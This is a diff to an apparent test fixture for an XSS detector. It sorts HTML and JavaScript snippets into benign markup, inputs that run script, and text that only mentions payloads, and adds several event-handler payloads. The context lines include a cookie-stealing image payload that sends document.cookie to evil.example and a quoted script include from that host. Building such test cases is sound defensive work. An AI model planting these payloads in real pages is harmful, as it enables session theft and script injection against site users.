@@ -20,6 +20,8 @@ IDLE = [
     '<img src="a.jpg" onerror="this.onerror=null;this.src=\'/default.png\'">',
     "const B = () => <button onClick={() => save(1)}>Save</button>",
     "<Button onClick={save}>Save</Button>",
+    '<body onload="init()"><button onclick="add(this, 5); return false;">Add</button></body>',
+    "<iframe src='//video.example/1' width='425' height='350'></iframe>",
     '<a href="javascript:void(0)">Menu</a>',
     "javascript:void(0) meaning",
     "javascript: links are bad style, and so are these.",
@@ -42,6 +44,9 @@ RUNS = [
     "<img onerror=\"this.src='//evil.example/?'+document.cookie\">",
     '<p onclick="return false" onmouseover="alert(1)">x</p>',
     "<b onClick={x}alert(1)>",
+    '<b onclick="eval(name)">x</b>',
+    "<b onclick=\"add('<img src=x onerror=alert(1)>')\">x</b>",
+    '<b onclick="add(this); alert(1)">x</b>',
     "javascript:void(0);alert(1)",
     "javascript: alert(1)",
     "<object><param name=url value=javascript:alert(1)></object>",
@@ -58,7 +63,7 @@ SHOWN = [
     '[12/Mar/2024 06:25:14] "GET /?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1" 200 4523',
     "XSS in comment field: <svg onload=alert(1)>",
     "fix(ui): refuse <script>alert(1)</script>",
-    'My function is called twice: once by onclick="save()" and once by addEventListener.',
+    'My function is called twice: once by onclick="alert(1)" and once by addEventListener.',
     'The hacker has added <script src="//evil.example/c.js"></script> to all pages. How do I get rid of it?',
 ]  # fmt: skip
 
